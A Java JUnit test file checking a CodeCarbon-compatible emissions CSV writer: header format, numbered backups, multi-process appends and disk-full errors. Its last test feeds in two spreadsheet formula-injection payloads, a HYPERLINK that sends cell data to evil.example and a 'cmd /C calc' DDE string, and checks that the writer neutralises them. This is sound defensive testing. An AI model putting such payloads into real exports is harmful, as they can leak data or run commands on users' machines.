package io.wattkeeper.agent.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.wattkeeper.agent.testing.HostFixture;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class EmissionsCsvTest {
  /** CodeCarbon's header, verbatim (output_methods/emissions_data.py field order). */
  static final String CODECARBON_HEADER =
      "timestamp,project_name,run_id,experiment_id,duration,emissions,emissions_rate,cpu_power,"
          + "gpu_power,ram_power,cpu_energy,gpu_energy,ram_energy,energy_consumed,water_consumed,"
          + "country_name,country_iso_code,region,cloud_provider,cloud_region,os,python_version,"
          + "codecarbon_version,cpu_count,cpu_model,gpu_count,gpu_model,longitude,latitude,"
          + "ram_total_size,tracking_mode,cpu_utilization_percent,gpu_utilization_percent,"
          + "ram_utilization_percent,ram_used_gb,on_cloud,pue,wue";

  @TempDir Path tmp;

  static List<String> row(String first) {
    List<String> v = new ArrayList<>(Collections.nCopies(EmissionsCsv.HEADER.size(), "1"));
    v.set(0, first);
    return v;
  }

  @Test
  void headerIsCodeCarbonsExactly() {
    assertThat(String.join(",", EmissionsCsv.HEADER)).isEqualTo(CODECARBON_HEADER);
  }

  @Test
  void appendsRowsUnderOneHeaderAndQuotesCommas() throws IOException {
    EmissionsCsv.append(tmp, row("a"));
    List<String> second = row("b");
    second.set(24, "Intel(R) Xeon(R), \"fast\"");
    EmissionsCsv.append(tmp, second);
    List<String> lines = Files.readAllLines(tmp.resolve("emissions.csv"));
    assertThat(lines).hasSize(3);
    assertThat(lines.get(0)).isEqualTo(CODECARBON_HEADER);
    assertThat(lines.get(2)).contains("\"Intel(R) Xeon(R), \"\"fast\"\"\"");
  }

  @Test
  void aFileWithAnotherHeaderIsBackedUp() throws IOException {
    HostFixture.write(tmp.resolve("emissions.csv"), "timestamp,something_else\n1,2\n");
    EmissionsCsv.append(tmp, row("a"));
    assertThat(Files.readAllLines(tmp.resolve("emissions.csv")).get(0))
        .isEqualTo(CODECARBON_HEADER);
    assertThat(Files.readString(tmp.resolve("emissions.csv.bak"))).contains("something_else");
  }

  @Test
  void backupsAreNumberedAsCodeCarbonDoesAndNeverOverwritten() throws IOException {
    Path csv = tmp.resolve("emissions.csv");
    for (int i = 0; i < 3; i++) {
      HostFixture.write(csv, "old_header_" + i + "\nrow\n");
      EmissionsCsv.append(tmp, row("a"));
    }
    assertThat(Files.readString(tmp.resolve("emissions.csv.bak"))).startsWith("old_header_0");
    assertThat(Files.readString(tmp.resolve("emissions.csv_0.bak"))).startsWith("old_header_1");
    assertThat(Files.readString(tmp.resolve("emissions.csv_1.bak"))).startsWith("old_header_2");
    assertThat(Files.readAllLines(csv)).hasSize(2);
  }

  @Test
  void anEmptyFileIsANewFileNotABackup() throws IOException {
    HostFixture.write(tmp.resolve("emissions.csv.bak"), "precious\n");
    HostFixture.write(tmp.resolve("emissions.csv"), "");
    EmissionsCsv.append(tmp, row("a"));
    assertThat(Files.readString(tmp.resolve("emissions.csv.bak"))).isEqualTo("precious\n");
    assertThat(Files.exists(tmp.resolve("emissions.csv_0.bak"))).isFalse();
    assertThat(Files.readAllLines(tmp.resolve("emissions.csv")))
        .hasSize(2)
        .first()
        .isEqualTo(CODECARBON_HEADER);
  }

  @Test
  void aLastLineWithoutNewlineGetsOneBeforeOurRow() throws IOException {
    String theirs = String.join(",", row("theirs"));
    HostFixture.write(tmp.resolve("emissions.csv"), CODECARBON_HEADER + "\n" + theirs);
    EmissionsCsv.append(tmp, row("ours"));
    assertThat(Files.readAllLines(tmp.resolve("emissions.csv")))
        .containsExactly(CODECARBON_HEADER, theirs, String.join(",", row("ours")));
  }

  @Test
  void sameColumnsInAnotherOrderAreKeptAndOurRowFollowsThatOrder() throws IOException {
    List<String> reversed = new ArrayList<>(EmissionsCsv.HEADER);
    Collections.reverse(reversed);
    HostFixture.write(tmp.resolve("emissions.csv"), String.join(",", reversed) + "\n");
    EmissionsCsv.append(tmp, row("first-column"));
    List<String> lines = Files.readAllLines(tmp.resolve("emissions.csv"));
    assertThat(Files.exists(tmp.resolve("emissions.csv.bak"))).isFalse();
    assertThat(lines.get(1)).endsWith(",first-column").doesNotStartWith("first-column");
  }

  @Test
  void aFullDiskFailsLoudlyAndLeavesNoHalfRow() throws IOException {
    Path full = Path.of("/dev/full");
    org.junit.jupiter.api.Assumptions.assumeTrue(Files.isWritable(full), "no /dev/full");
    Path csv = Files.createSymbolicLink(tmp.resolve("emissions.csv"), full);
    assertThatThrownBy(() -> EmissionsCsv.appendTo(csv, row("a")))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("space");
  }

  @Test
  void twoProcessesAppendingAtOnceNeitherInterleaveNorLoseRows() throws Exception {
    appendFromThreeProcesses();
    // The lock is on the csv itself: no sidecar file is left next to it.
    try (java.util.stream.Stream<Path> files = Files.list(tmp)) {
      assertThat(files.map(f -> f.getFileName().toString())).containsExactly("emissions.csv");
    }
  }

  @Test
  void concurrentAppendsOverAnOldHeaderMakeOneBackupAndLoseNoRow() throws Exception {
    Files.writeString(tmp.resolve("emissions.csv"), "timestamp,project_name\nold,row\n");
    appendFromThreeProcesses();
    try (java.util.stream.Stream<Path> files = Files.list(tmp)) {
      assertThat(files.map(f -> f.getFileName().toString()))
          .containsExactlyInAnyOrder("emissions.csv", "emissions.csv.bak");
    }
    assertThat(Files.readString(tmp.resolve("emissions.csv.bak")))
        .isEqualTo("timestamp,project_name\nold,row\n");
  }

  private void appendFromThreeProcesses() throws Exception {
    int rows = 150;
    String javaBin = Path.of(System.getProperty("java.home"), "bin", "java").toString();
    List<Process> writers = new ArrayList<>();
    for (String who : List.of("p1", "p2")) {
      writers.add(
          new ProcessBuilder(
                  javaBin,
                  "-cp",
                  System.getProperty("java.class.path"),
                  AppendRows.class.getName(),
                  tmp.toString(),
                  who,
                  Integer.toString(rows))
              .redirectErrorStream(true)
              .start());
    }
    AppendRows.main(tmp.toString(), "self", Integer.toString(rows));
    for (Process p : writers) {
      assertThat(p.waitFor(60, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
      assertThat(p.exitValue()).as(new String(p.getInputStream().readAllBytes())).isZero();
    }
    List<String> lines = Files.readAllLines(tmp.resolve("emissions.csv"));
    assertThat(lines.get(0)).isEqualTo(CODECARBON_HEADER);
    assertThat(lines).hasSize(1 + 3 * rows);
    java.util.Set<String> distinct = new java.util.HashSet<>(lines.subList(1, lines.size()));
    assertThat(distinct).hasSize(3 * rows);
    for (String line : lines.subList(1, lines.size())) {
      assertThat(line.split(",", -1)).hasSize(EmissionsCsv.HEADER.size());
    }
  }

  /** A second process appending rows: run by the concurrency test with the test class path. */
  public static final class AppendRows {
    public static void main(String... args) throws IOException {
      for (int i = 0; i < Integer.parseInt(args[2]); i++) {
        EmissionsCsv.append(Path.of(args[0]), row(args[1] + "-" + i));
      }
    }
  }

  @Test
  void wrongRowLengthIsRefused() {
    assertThatThrownBy(() -> EmissionsCsv.append(tmp, List.of("x")))
        .hasMessageContaining("header has 38");
  }

  /** measure's file goes through the same escaper: formulas neutralised, numbers kept. */
  @Test
  void formulaCellsAreNeutralisedAndNegativeNumbersKept() throws IOException {
    List<String> v = row("2026-09-15T10:00:00");
    int region = EmissionsCsv.HEADER.indexOf("region");
    int project = EmissionsCsv.HEADER.indexOf("project_name");
    int cpuEnergy = EmissionsCsv.HEADER.indexOf("cpu_energy");
    v.set(region, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")");
    v.set(project, "@SUM(1+1)*cmd|' /C calc'!A0");
    v.set(cpuEnergy, "-0.25");
    EmissionsCsv.append(tmp, v);
    String line = Files.readAllLines(tmp.resolve("emissions.csv")).get(1);
    assertThat(line)
        .contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",")
        .contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\",")
        .contains(",-0.25,")
        .doesNotContain(",=")
        .doesNotContain(",@");
  }
}
